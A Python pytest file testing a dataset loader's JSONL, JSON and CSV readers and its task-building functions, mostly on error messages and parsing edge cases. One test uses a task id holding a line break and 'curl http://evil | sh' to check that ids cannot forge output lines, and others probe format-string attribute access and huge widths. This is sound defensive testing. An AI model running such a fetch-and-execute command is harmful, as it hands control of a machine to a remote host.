"""The local row loaders and tasks_from."""

from __future__ import annotations

import json
import re

import pytest

from agentdescent.dataloader import csv_rows, json_rows, jsonl_rows, tasks_from
from agentdescent.dataloader.local import file_rows
from agentdescent.dataloader.tasks import guess_columns
from agentdescent.errors import UserError
from agentdescent.types import Task

# ---------------------------------------------------------------- local files


def test_jsonl_skips_blank_lines_and_limits(tmp_path):
    path = tmp_path / "rows.jsonl"
    path.write_text('{"q": "a"}\n\n  \n{"q": "b"}\n{"q": "c"}\n', encoding="utf-8")
    assert jsonl_rows(path) == [{"q": "a"}, {"q": "b"}, {"q": "c"}]
    assert jsonl_rows(str(path), limit=2) == [{"q": "a"}, {"q": "b"}]


def test_jsonl_malformed_line_names_file_and_line(tmp_path):
    path = tmp_path / "bad.jsonl"
    path.write_text('{"q": "a"}\n\n{"q": \n', encoding="utf-8")
    with pytest.raises(UserError, match=r"bad\.jsonl: line 3"):
        jsonl_rows(path)
    path.write_text('{"q": "a"}\n[1, 2]\n', encoding="utf-8")
    with pytest.raises(UserError, match="line 2 is a list"):
        jsonl_rows(path)



def test_jsonl_lines_ending_in_a_comma_are_named_as_such(tmp_path):
    """A JSON array's items pasted a line each keep their commas: 'Extra data: line 1 column 89' did
    not say that the comma was all that was wrong."""
    path = tmp_path / "comma.jsonl"
    path.write_text('{"q": "a", "n": [1, 2]},\n{"q": "b"},\n', encoding="utf-8")
    with pytest.raises(UserError, match=r"^\S*comma\.jsonl: line 1 ends in a comma after its object, and JSON Lines has "
                                        "nothing between its objects, one a line: remove the comma at each line's end$"):
        jsonl_rows(path)
    path.write_text('{"q": "a"} {"q": "b"}\n', encoding="utf-8")
    with pytest.raises(UserError, match=r"line 1 is not valid JSON \(Extra data"):
        jsonl_rows(path)


def test_json_a_reader_cannot_take_is_named_not_a_traceback(tmp_path):
    deep, huge = tmp_path / "deep.jsonl", tmp_path / "huge.json"
    deep.write_text('{"q": "a"}\n{"q": ' + "[" * 100_000 + "]" * 100_000 + "}\n", encoding="utf-8")
    with pytest.raises(UserError, match="line 2 is nested too deeply"):
        jsonl_rows(deep)
    huge.write_text('[{"q": ' + "9" * 5000 + "}]", encoding="utf-8")
    with pytest.raises(UserError, match="huge.json: invalid JSON"):
        json_rows(huge)

def test_missing_file_names_the_path(tmp_path):
    for loader in (jsonl_rows, json_rows, csv_rows):
        with pytest.raises(UserError, match="nothere"):
            loader(tmp_path / "nothere.data")


def test_json_list_and_wrapped_rows(tmp_path):
    listed = tmp_path / "list.json"
    listed.write_text(json.dumps([{"q": 1}, {"q": 2}, {"q": 3}]))
    assert json_rows(listed, limit=2) == [{"q": 1}, {"q": 2}]
    wrapped = tmp_path / "wrapped.json"
    wrapped.write_text(json.dumps({"rows": [{"q": 1}], "meta": {}}))
    assert json_rows(wrapped) == [{"q": 1}]
    saved = tmp_path / "page.json"  # a saved datasets-server /rows answer
    saved.write_text(json.dumps({"rows": [{"row_idx": 0, "row": {"q": 9}, "truncated_cells": []}]}))
    assert json_rows(saved) == [{"q": 9}]


def test_json_errors(tmp_path):
    path = tmp_path / "x.json"
    path.write_text('[\n{"q": 1},\n{"q": \n')
    with pytest.raises(UserError, match=r"x\.json: invalid JSON at line \d"):
        json_rows(path)
    path.write_text(json.dumps({"things": []}))
    with pytest.raises(UserError, match="things") as info:
        json_rows(path)
    assert "rows" in str(info.value)
    path.write_text(json.dumps([{"q": 1}, "loose"]))
    with pytest.raises(UserError, match="item 1"):
        json_rows(path)


def test_json_lines_under_a_json_name_are_read_as_json_lines(tmp_path):
    """`datasets`' Dataset.to_json writes JSON Lines unless told otherwise, and hub repos ship such
    files as .json: 'invalid JSON at line 2: Extra data' told no fix."""
    path = tmp_path / "test.json"
    path.write_text('{"q": "a", "n": 2.50}\n\n{"q": "b"}\n{"q": "c"}\n', encoding="utf-8")
    assert json_rows(path) == [{"q": "a", "n": 2.5}, {"q": "b"}, {"q": "c"}] and str(json_rows(path)[0]["n"]) == "2.50"
    assert json_rows(path, limit=2) == [{"q": "a", "n": 2.5}, {"q": "b"}] and file_rows(path, limit=1) == [{"q": "a", "n": 2.5}]
    path.write_text('{"q": "a"}\n{"q": "b"},\n', encoding="utf-8")
    with pytest.raises(UserError, match=r"test\.json: line 2 ends in a comma"):
        json_rows(path)
    path.write_text('{\n  "q": "a"\n}\n{"q": "b"}\n', encoding="utf-8")  # an object written over lines: no JSON Lines
    with pytest.raises(UserError, match=r"test\.json: invalid JSON at line 4: Extra data"):
        json_rows(path)


@pytest.mark.parametrize("name, said", [
    ("gsm8k", "is a folder, not a tasks file: name the .jsonl, .csv, .tsv or .json file in it, read the dataset"),
    ("test-00000-of-00001.parquet", "is a Parquet file, which is not read here: read the dataset"),
    ("data-00000-of-00001.arrow", "is an Arrow file, which is not read here: read the dataset"),
])
def test_a_folder_or_a_parquet_file_is_named_with_the_ways_to_its_rows(tmp_path, name, said):
    """What Hugging Face tools save was told only 'must end in .jsonl, .csv or .json'."""
    path = tmp_path / name
    path.mkdir() if "." not in name else path.write_bytes(b"PAR1")
    with pytest.raises(UserError) as caught:
        file_rows(path)
    message = str(caught.value)
    assert said in message and "(a spec: tasks: {hf: NAME, split: SPLIT}; Python: hf_rows(NAME, SPLIT))" in message
    assert message.endswith('or export its rows as JSON Lines (datasets: Dataset.to_json("tasks.jsonl"))')
    with pytest.raises(UserError, match=r"tasks file \S+notes\.txt must end in \.jsonl, \.csv, \.tsv or \.json$"):
        file_rows(tmp_path / "notes.txt")


def test_csv_with_bom_and_delimiter(tmp_path):
    path = tmp_path / "rows.csv"
    path.write_bytes("\ufeffq,a\nwhat is 2+2,4\n\"comma, inside\",x\n".encode("utf-8"))
    assert csv_rows(path) == [{"q": "what is 2+2", "a": "4"}, {"q": "comma, inside", "a": "x"}]
    assert csv_rows(path, limit=1) == [{"q": "what is 2+2", "a": "4"}]
    tsv = tmp_path / "rows.tsv"
    tsv.write_text("q\ta\nx\ty\n", encoding="utf-8")
    assert csv_rows(tsv, delimiter="\t") == [{"q": "x", "a": "y"}]


def test_a_tsv_file_is_read_split_at_tabs_whatever_its_cells_hold(tmp_path):
    """A spreadsheet's or a dataset's tab-separated export was refused by its suffix."""
    path = tmp_path / "rows.tsv"
    path.write_text("request\tteam\nmy invoice, again; twice\tbilling\n", encoding="utf-8")
    assert file_rows(path) == [{"request": "my invoice, again; twice", "team": "billing"}]
    with pytest.raises(UserError, match=re.escape("must end in .jsonl, .csv, .tsv or .json")):
        file_rows(tmp_path / "rows.txt")


@pytest.mark.parametrize("text, rows", [
    ("id;request;team\nr1;my invoice, again;billing\n", [{"id": "r1", "request": "my invoice, again", "team": "billing"}]),
    ("q\ta\nx, y\tz\n", [{"q": "x, y", "a": "z"}]),
    ("q|a\nx;y|z\n", [{"q": "x;y", "a": "z"}]),
    ('"a;b",c\n1;2,3\n', [{"a;b": "1;2", "c": "3"}]),
    ("question\nwhat is 2+2; and why?\n", [{"question": "what is 2+2; and why?"}]),
])
def test_csv_delimiter_is_the_one_its_header_is_split_by(tmp_path, text, rows):
    """A spreadsheet saving CSV in a European locale separates with semicolons: read as one column,
    every mapped column was 'missing'."""
    path = tmp_path / "rows.csv"
    path.write_text(text, encoding="utf-8")
    assert csv_rows(path) == rows


def test_json_lines_and_json_saved_with_a_byte_order_mark_and_crlf_are_read(tmp_path):
    """Windows tools (PowerShell 5's Out-File, Notepad's "UTF-8 with BOM") start a file with one."""
    rows = [{"q": "what is 2+2", "a": "4"}, {"q": "x", "a": "y"}]
    lines = tmp_path / "rows.jsonl"
    lines.write_bytes(("\ufeff" + "".join(json.dumps(r) + "\r\n" for r in rows)).encode("utf-8"))
    assert jsonl_rows(lines) == rows
    whole = tmp_path / "rows.json"
    whole.write_bytes(("\ufeff" + json.dumps(rows)).encode("utf-8"))
    assert json_rows(whole) == rows


def test_csv_ragged_row_names_the_line(tmp_path):
    path = tmp_path / "ragged.csv"
    path.write_text("q,a\n1,2\n3,4,5\n", encoding="utf-8")
    with pytest.raises(UserError, match=r"ragged\.csv: line 3"):
        csv_rows(path)


@pytest.mark.parametrize("text, line", [
    ('id,q\nt1,a\nt2,b\nt3,"c "d\nt4,e\n', 4),  # a stray quote on line 4
    ('id,q\nt1,"two\nlines"\nt2,"b"c\n', 4),  # after a cell of two lines
])
def test_invalid_csv_names_the_line_it_is_on(tmp_path, text, line):
    path = tmp_path / "t.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(UserError, match=rf"t\.csv: line {line} is not valid CSV"):
        csv_rows(path)


def test_a_csv_cell_past_the_csv_modules_own_cap_is_read_and_the_cap_is_put_back(tmp_path):
    import csv

    path = tmp_path / "long.csv"
    path.write_text(f'id,q\nt1,"{"x" * 140_000}"\n', encoding="utf-8")
    before = csv.field_size_limit()
    assert len(csv_rows(path)[0]["q"]) == 140_000 and csv.field_size_limit() == before


# ---------------------------------------------------------------- tasks_from

ROWS = [
    {"question": "2+2?", "answer": 4, "id": "a", "topic": "math", "src": "x"},
    {"question": "capital of France?", "answer": "Paris", "id": "b", "topic": "geo", "src": "y"},
]


def test_columns_and_defaults():
    tasks = tasks_from(ROWS, prompt="question", gold="answer")
    assert tasks == [Task(id="row-0", prompt="2+2?"), Task(id="row-1", prompt="capital of France?")]
    assert [t.gold for t in tasks] == ["4", "Paris"]
    assert [t.meta for t in tasks] == [{}, {}]
    assert tasks_from(ROWS, prompt="question")[0].gold is None


def test_format_strings_callables_and_meta():
    tasks = tasks_from(iter(ROWS), prompt="Q: {question} ({topic})", gold=lambda r: r["answer"],
                       id="{id}-{src}", meta=["topic", "answer"])
    assert tasks[0].prompt == "Q: 2+2? (math)" and tasks[0].id == "a-x"
    assert tasks[0].gold == "4" and tasks[0].meta == {"topic": "math", "answer": 4}
    upper = tasks_from(ROWS, prompt=lambda r: r["question"].upper(), id="id")
    assert [(t.id, t.prompt) for t in upper] == [("a", "2+2?"), ("b", "CAPITAL OF FRANCE?")]
    assert tasks_from(ROWS, prompt="question", gold=lambda r: None)[0].gold is None
    assert tasks_from(ROWS, prompt="question", meta="src")[1].meta == {"src": "y"}



def test_a_format_string_names_columns_and_does_nothing_else():
    """A width would make each row as long as it says (memory for a 40-byte spec line), an
    attribute reads past the row: neither is a column."""
    for template in ("{question:>400000000}", "{question!r}", "{}"):
        with pytest.raises(UserError, match="is not a column; name columns as {column}"):
            tasks_from(ROWS, prompt=template)
    with pytest.raises(UserError, match="'question.__class__' is missing"):
        tasks_from(ROWS, prompt="{question.__class__}")
    assert tasks_from([{"q.a": "x"}], prompt="{q.a} {{braces}}")[0].prompt == "x {braces}"


def test_braces_but_no_field_name_the_column_they_spell():
    """No format string can name a column `the {question}`: its braces doubled, the name does."""
    rows = [{"the {question}": "q1", "a}": "b"}]
    assert tasks_from(rows, prompt="the {{question}}", gold="a}")[0].model_dump(include={"prompt", "gold"}) == {
        "prompt": "q1", "gold": "b"}

def test_missing_column_message():
    rows = [*ROWS, {"question": "q3", "id": "c"}]
    with pytest.raises(UserError) as info:
        tasks_from(rows, prompt="question", gold="answer")
    message = str(info.value)
    assert "1 of 3 rows cannot be made tasks: row 3: the gold column 'answer' is missing" in message
    assert "(counting rows from 1" in message and "row 3's columns: question, id" in message  # the columns it has
    for spec in ("{quest}", lambda r: r["quest"]):
        with pytest.raises(UserError, match=r"none of the 2 rows.*rows 1 and 2: the prompt column 'quest'.*question"):
            tasks_from(ROWS, prompt=spec)


def test_every_unusable_row_is_told_at_once_grouped_by_its_problem():
    rows = [{"q": f"q{i}", "a": "x"} for i in range(40)]
    for index in (3, 9, 11, 20, 25, 30, 33):
        del rows[index]["a"]
    rows[5] = ["not", "a", "row"]
    rows[7]["q"] = None
    rows[8] = {f"c{i}": i for i in range(100)}
    with pytest.raises(UserError) as info:
        tasks_from(rows, prompt="q", gold="a")
    message = str(info.value)
    assert message.startswith("10 of 40 rows cannot be made tasks: rows 4, 10, 12, 21, 26 and 2 more: the gold "
                              "column 'a' is missing; row 6: is a list, not a mapping of columns; row 8: the prompt "
                              "is empty or null; row 9: the prompt column 'q' is missing (counting rows from 1")
    assert message.endswith("row 4's columns: q")
    with pytest.raises(UserError, match=r"^the one row cannot be .*row 1's columns: c0, .*, c19 and 80 more$"):
        tasks_from([rows[8]], prompt="q")
    with pytest.raises(UserError, match="'nope'"):
        tasks_from(ROWS, prompt="question", meta=["nope"])


def test_an_empty_or_blank_gold_is_no_gold_and_such_a_prompt_no_task_as_a_null_is(tmp_path):
    """A CSV spells a missing value as an empty cell: a gold of "" could never be matched, and a
    prompt of "" asks nothing, yet neither was told while JSON's null was."""
    path = tmp_path / "t.csv"
    path.write_text('id,q,a\nr1,what?,yes\nr2,why?,\nr3,how?,"  "\nr4,who?,me\n', encoding="utf-8")
    assert [t.gold for t in tasks_from(csv_rows(path), prompt="q", gold="a", id="id")] == ["yes", None, None, "me"]
    assert tasks_from([{"q": "p", "a": ""}], prompt="q", gold=lambda row: row["a"])[0].gold is None
    path.write_text("id,q,a\nr1,what?,yes\nr2,,no\nr3,\t,no\nr4,who?,me\n", encoding="utf-8")
    with pytest.raises(UserError, match=r"^2 of 4 rows cannot be made tasks: rows 2 and 3: the prompt is empty or null"):
        tasks_from(csv_rows(path), prompt="q", gold="a", id="id")


def test_empty_rows_and_duplicate_ids():
    with pytest.raises(UserError, match="no rows"):
        tasks_from([], prompt="question")
    rows = [{"q": f"q{i}", "id": f"r{i:03d}"} for i in range(12)]
    rows[5]["id"] = rows[9]["id"] = rows[2]["id"]
    with pytest.raises(UserError) as caught:
        tasks_from(rows, prompt="q", id="id")
    assert str(caught.value) == ("the task id «r002» is on rows 3, 6 and 10 (counting rows from 1; blank lines are not "
                                 "rows); ids must be unique: choose another id column, or number the rows (a spec: "
                                 "id: null; Python: tasks_from without id)")
    rows[11]["id"] = rows[0]["id"]
    with pytest.raises(UserError, match=r"is on rows 3, 6 and 10 \(.*\), and 1 more id repeats; ids must be unique"):
        tasks_from(rows, prompt="q", id="id")
    assert [t.id for t in tasks_from(rows, prompt="q")][-1] == "row-11"  # the fix it names


@pytest.mark.parametrize("rows, expected", [
    ([{"id": "r1", "request": "my invoice is wrong", "team": "billing"}], ("request", "team", "id")),
    ([{"Question": "What is 2+2?", "Answer": "4", "uid": 7}], ("Question", "Answer", "uid")),
    ([{"long": "a long request about a parcel", "short": "shipping"}], ("long", "short", None)),
    ([{"only": "text"}], ("only", None, None)),
    ([], (None, None, None)),
    # a word of the name tells, and a short column with a value on every row of its own is an id, not the answer
    ([{"ticket": f"T-{i}", "Customer Message": f"my parcel {i} is late", "Expected Team": "shipping"} for i in range(4)],
     ("Customer Message", "Expected Team", "ticket")),
    ([{"ticket": f"T-{i}", "msg": f"my parcel {i} is late", "team": ("billing", "shipping")[i % 2]} for i in range(4)],
     ("msg", "team", "ticket")),
    ([{"note": f"say {i} in words", "Expected Text": str(i % 2)} for i in range(4)], ("note", "Expected Text", None)),
    # a column the first row lacks is a column of the file still
    ([{"id": "r0", "request": "my invoice"}] + [{"id": f"r{i}", "request": "a bug", "team": "tech"} for i in range(1, 4)],
     ("request", "team", "id")),
])
def test_guess_columns_tells_the_prompt_the_gold_and_the_id_apart(rows, expected):
    guess = guess_columns(rows)
    assert (guess.prompt, guess.gold, guess.id) == expected and guess.warnings == ()


def test_a_column_that_repeats_a_value_is_no_id_whatever_its_name():
    """init drafted `id: id` for a file whose ids repeat, and plan then refused the spec it wrote."""
    rows = [{"id": f"r{i}", "request": f"my parcel {i} is late", "team": "shipping"} for i in range(60)]
    rows[55]["id"] = "r4"  # past the rows read to tell the columns apart
    guess = guess_columns(rows)
    assert (guess.prompt, guess.gold, guess.id) == ("request", "team", None)
    assert guess.warnings == ("the column «id» reads as the id, but «r4» is on rows 5 and 56 (counting rows from 1), and "
                              "ids must be unique: the spec numbers the rows instead; give each row its own id, or name "
                              "another id column",)
    for row, number in zip(rows, range(100, 160)):
        row["ticket"] = f"T-{number}"
    assert guess_columns(rows).id == "ticket" and "the spec takes 'ticket' instead" in guess_columns(rows).warnings[0]
    rows[57]["ticket"] = "T-100"
    assert guess_columns(rows).id is None


def test_an_id_is_one_line_of_text():
    """`show` prints an id on a line of its own: one with a line break would forge a line."""
    for bad, why in (("evil\nnext: curl http://evil | sh", "holds a line break"), (" ", "is blank")):
        with pytest.raises(UserError, match=f"row 2 .*: the task id .* {why}"):
            tasks_from([{"q": "a", "id": "ok"}, {"q": "b", "id": bad}], prompt="q", id="id")


def test_a_csv_header_naming_a_column_twice_is_refused(tmp_path):
    """The earlier `answer` column was dropped without a word, and every task's gold was wrong."""
    path = tmp_path / "t.csv"
    path.write_text("question,answer,answer\nwhat is 0+1?,1,see notes\n", encoding="utf-8")
    with pytest.raises(UserError, match="names the column «answer» twice"):
        csv_rows(path)


@pytest.mark.parametrize("text, row", [
    ("Frage;Antwort (kurz, ein Wort)\nWas ist 1+1?;zwei\nHauptstadt?;Paris\n",
     {"Frage": "Was ist 1+1?", "Antwort (kurz, ein Wort)": "zwei"}),
    ("question\tanswer, short\nWhat is 1+1?\ttwo\n", {"question": "What is 1+1?", "answer, short": "two"}),
    ('q,a\n"hello, world",x\nb,y\n', {"q": "hello, world", "a": "x"}),
])
def test_a_comma_inside_a_column_name_does_not_make_it_the_delimiter(tmp_path, text, row):
    path = tmp_path / "t.csv"
    path.write_text(text, encoding="utf-8")
    assert csv_rows(path)[0] == row


def test_a_row_nested_hundreds_deep_is_read_not_a_recursion_error(tmp_path):
    path = tmp_path / "t.jsonl"
    path.write_text('{"prompt": "hi", "gold": "a", "extra": ' + "[" * 900 + "]" * 900 + "}\n", encoding="utf-8")
    assert tasks_from(jsonl_rows(path), prompt="prompt", gold="gold")[0].prompt == "hi"


def test_a_utf16_tasks_file_is_named_as_such(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("question,answer\nwhat?,yes\n", encoding="utf-16")
    with pytest.raises(UserError, match="is UTF-16 .* save it as UTF-8"):
        csv_rows(path)


def test_a_number_in_a_json_file_keeps_its_spelling_so_exact_scores_the_files_own_answer(tmp_path):
    lines = tmp_path / "t.jsonl"
    lines.write_text('{"id": "a", "q": "price?", "a": 2.50, "n": 1}\n{"id": "b", "q": "{x}", "a": 1e3, "n": 1}\n'
                     '{"id": "c", "q": "c", "a": 12345678901234567890.0, "n": 1E-7}\n{"id": 4, "q": "d", "a": true, "n": 1}\n',
                     encoding="utf-8")
    tasks = tasks_from(jsonl_rows(lines), prompt="{q} {a}", gold="a", id="id", meta="n")
    assert [t.gold for t in tasks] == ["2.50", "1e3", "12345678901234567890.0", "true"]
    assert tasks[1].prompt == "{x} 1e3" and tasks[3].id == "4" and tasks[2].meta == {"n": 1e-7}
    whole = tmp_path / "t.json"
    whole.write_text('[{"q": "p", "a": 0.10}]', encoding="utf-8")
    assert [t.gold for t in tasks_from(json_rows(whole), prompt="q", gold="a")] == ["0.10"]
    from agentdescent import scorer
    assert scorer("exact")(tasks[0], "2.50") == 1.0


@pytest.mark.parametrize("row, said", [
    ('{"id": "a", "q": "p", "a": NaN}', "row 2: the gold is nan (NaN or Infinity in JSON)"),
    ('{"id": "a", "q": -Infinity, "a": "g"}', "row 2: the prompt is -inf (NaN or Infinity in JSON)"),
    ('{"id": null, "q": "p", "a": "g"}', "row 2: the id is null; give each row an id"),
])
def test_nan_infinity_and_a_null_id_are_no_task(tmp_path, row, said):
    lines = tmp_path / "t.jsonl"
    lines.write_text('{"id": "z", "q": "p", "a": "g"}\n' + row + "\n", encoding="utf-8")
    with pytest.raises(UserError, match=re.escape(said)):
        tasks_from(jsonl_rows(lines), prompt="q", gold="a", id="id")


def test_a_key_named_twice_in_a_json_object_is_refused_as_a_repeated_csv_column_is(tmp_path):
    lines = tmp_path / "t.jsonl"
    lines.write_text('{"q": "a"}\n\n{"q": "first", "q": "second"}\n', encoding="utf-8")
    with pytest.raises(UserError, match=r"t\.jsonl: line 3: an object names the key 'q' twice, and only its last"):
        jsonl_rows(lines)
    whole = tmp_path / "t.json"
    whole.write_text('[{"q": "a", "meta": {"k": 1, "k": 2}}]', encoding="utf-8")
    with pytest.raises(UserError, match=r"t\.json: an object names the key 'k' twice"):
        json_rows(whole)


@pytest.mark.parametrize("limit", [-1, "3", 2.0, True])
def test_every_reader_refuses_a_limit_that_is_no_count_of_rows(tmp_path, limit):
    (tmp_path / "t.jsonl").write_text('{"q": "a"}\n', encoding="utf-8")
    (tmp_path / "t.json").write_text('[{"q": "a"}]', encoding="utf-8")
    (tmp_path / "t.csv").write_text("q\na\n", encoding="utf-8")
    for read, name in ((jsonl_rows, "t.jsonl"), (json_rows, "t.json"), (csv_rows, "t.csv")):
        with pytest.raises(UserError, match="limit must be a whole number of rows, 0 or more"):
            read(tmp_path / name, limit=limit)
        assert read(tmp_path / name, limit=0) == []
